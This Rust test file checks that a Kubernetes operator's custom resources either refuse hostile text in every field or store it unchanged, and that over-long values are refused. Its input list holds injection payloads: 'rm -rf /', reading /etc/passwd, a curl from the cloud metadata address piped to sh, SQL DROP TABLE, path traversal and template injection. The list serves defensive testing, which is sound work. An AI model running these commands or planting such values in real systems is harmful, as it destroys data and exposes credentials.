//! Text in every text field that tries to be something else: refused in plain words, or kept as it is.

use futures::{StreamExt, stream};
use kube::{Api, Client};
use nightshift::api::AutomationTask;
use serde_json::{Value, json};

use crate::{
    case::{backfill, run_of, task, workflow},
    schema::{Text, schemas, texts},
    server::{Keep, create},
    support::{install_crds, with_temp_namespace},
    task::{RICH, rich_with_script},
};

const HOSTILE: [&str; 26] = [
    "",
    " ",
    "\n",
    "a\nb: c\n- d",
    "\r\n\t\u{8}",
    "\u{0}",
    "a\u{0}b",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{202e}gnp.exe\u{2066}",
    "\u{feff}\u{200b}zero",
    "\u{10ffff}\u{e000}🦀é",
    "'\"`\\",
    "'; rm -rf / #",
    "\"; cat /etc/passwd; \"",
    "$(id) `id` ${IFS} $$ $(NIGHTSHIFT_RUN)",
    "&& curl http://169.254.169.254/ |sh",
    "\"}, {\"privileged\": true, \"x\": \"",
    "{\"a\": [1]}",
    "&anchor *alias !!binary <<: {}",
    "--- # yaml\n...",
    "<script>alert('x')</script>",
    "{{ .Values.secret }} {{{ x }}} ${{ env }} {% raw %}",
    "../../../etc/passwd\u{0}.txt",
    "' OR 1=1; DROP TABLE runs --",
    "%s%n%x \\u0000 \\x00 &#0; %00",
    "null",
];

#[tokio::test]
async fn is_refused_by_field_or_kept_byte_for_byte() {
    with_temp_namespace(async |client, namespace| {
        install_crds(&client).await;
        let mut tries = Vec::new();
        for (object, texts) in subjects() {
            for text in texts {
                for hostile in HOSTILE {
                    let mut object = object.clone();
                    *object.pointer_mut(&text.pointer).expect("the text is there") = hostile.into();
                    tries.push((object, text.pointer.clone(), text.field.clone(), hostile));
                }
            }
        }
        assert!(tries.len() > 1000, "the walk has found every text field: {}", tries.len());
        let results = stream::iter(tries.into_iter().map(|(object, pointer, field, hostile)| {
            let (client, namespace) = (&client, &namespace);
            async move {
                match create(client, namespace, &object, Keep::DryRun).await {
                    Ok(stored) if stored.pointer(&pointer) == Some(&json!(hostile)) => None,
                    Ok(stored) => Some(format!("- {field}: {hostile:?} became {:?}", stored.pointer(&pointer))),
                    Err(said) if names(&said, &field) => None,
                    Err(said) => Some(format!("- {field}: {hostile:?} refused without naming the field: {said}")),
                }
            }
        }));
        let wrong: Vec<String> = results.buffer_unordered(8).filter_map(|wrong| async { wrong }).collect().await;
        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    })
    .await;
}

#[tokio::test]
async fn is_read_back_as_it_was_written() {
    with_temp_namespace(async |client, namespace| {
        install_crds(&client).await;
        for (n, hostile) in HOSTILE.iter().enumerate() {
            let (mut object, texts) = subjects().swap_remove(n % 2);
            object["metadata"]["name"] = format!("hostile-{n}").into();
            let fields = object["spec"].as_object_mut().expect("an object");
            // What needs a schedule goes with it.
            fields.remove("schedule");
            fields.remove("slo");
            if let Some(parameters) = object["spec"]["parameters"].as_array_mut() {
                parameters.retain(|parameter| parameter.get("fromSlot").is_none());
            }
            let mut kept = 0;
            let texts: Vec<_> = texts.iter().filter(|text| object.pointer(&text.pointer).is_some()).collect();
            for text in texts {
                let mut tried = object.clone();
                *tried.pointer_mut(&text.pointer).expect("the text is there") = (*hostile).into();
                if create(&client, &namespace, &tried, Keep::DryRun).await.is_ok() {
                    object = tried;
                    kept += 1;
                }
            }
            assert!(kept >= 1, "{hostile:?} is allowed in a description at least");
            create(&client, &namespace, &object, Keep::Stored).await.expect("what the dry run took");
            read_back(&client, &namespace, &object).await;
        }
    })
    .await;
}

/// Reads the object as the operator does, and compares.
async fn read_back(client: &Client, namespace: &str, written: &Value) {
    let name = written["metadata"]["name"].as_str().expect("a name");
    let read = Api::<AutomationTask>::namespaced(client.clone(), namespace).get(name).await.expect("readable");
    let mut expected = written["spec"].clone();
    for variable in expected["env"].as_array_mut().into_iter().flatten() {
        variable.as_object_mut().expect("an object").entry("value").or_insert_with(|| "".into());
    }
    assert_eq!(serde_json::to_value(&read.spec).expect("JSON"), expected);
}

#[tokio::test]
async fn is_refused_where_it_is_too_long() {
    with_temp_namespace(async |client, namespace| {
        install_crds(&client).await;
        let results = stream::iter(
            subjects().into_iter().flat_map(|(object, texts)| texts.into_iter().map(move |text| (object.clone(), text))),
        )
        .map(|(mut object, Text { pointer, field, schema })| {
            let (client, namespace) = (&client, &namespace);
            async move {
                let Some(max) = schema["maxLength"].as_u64() else {
                    return Some(format!("- {field} has no longest length"));
                };
                let long = "a".repeat(usize::try_from(max).expect("small") + 1);
                *object.pointer_mut(&pointer).expect("the text is there") = long.into();
                match create(client, namespace, &object, Keep::DryRun).await {
                    Err(said) if names(&said, &field) && said.contains(&max.to_string()) => None,
                    Err(said) => Some(format!("- {field}: refused without naming it and {max}: {said}")),
                    Ok(_) => Some(format!("- {field}: {} characters accepted", max + 1)),
                }
            }
        });
        let wrong: Vec<String> = results.buffer_unordered(8).filter_map(|wrong| async { wrong }).collect().await;
        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    })
    .await;
}

/// Objects that hold every text field of our kinds, and those fields.
fn subjects() -> Vec<(Value, Vec<Text>)> {
    let schemas = schemas();
    let run = r"{parameters: [{name: DAY, value: '2026-01-31'}]}";
    let rerun = "{rerunOf: nightly-import-0, definition: Original, parameters: [{name: DAY, value: '2026-01-31'}]}";
    let order = r"{description: d, schedule: {cron: ['@daily'], timeZone: UTC, exclude: ['2026-12-25']}, parameters: [{name: DAY, description: d, default: d}, {name: KIND, pattern: d}],
        steps: [{name: fetch, taskRef: {name: t}},
            {name: load, workflowRef: {name: w}, when: 'true', parameters: [{name: A, value: v}, {name: B, expression: item}],
             forEach: {expression: '[1]'}}],
        finally: [{name: notify, taskRef: {name: t}, when: 'true'}]}";
    // The first two are tasks: they are read back as such.
    let objects = [
        (task(RICH), 0),
        (task(&rich_with_script().to_string()), 0),
        (run_of(run), 1),
        (run_of(rerun), 1),
        (backfill(run), 2),
        (workflow(order), 3),
    ];
    objects
        .map(|(object, kind)| {
            let mut found = Vec::new();
            texts("/spec", "spec", &object["spec"], &schemas[kind].1["properties"]["spec"], &mut found);
            (object, found)
        })
        .into()
}

/// Whether a refusal names the field, or for an entry of a list or map the list or map.
fn names(said: &str, field: &str) -> bool {
    said.contains(field) || field.strip_suffix(']').and_then(|field| field.rsplit_once('[')).is_some_and(|(list, _)| said.contains(list))
}
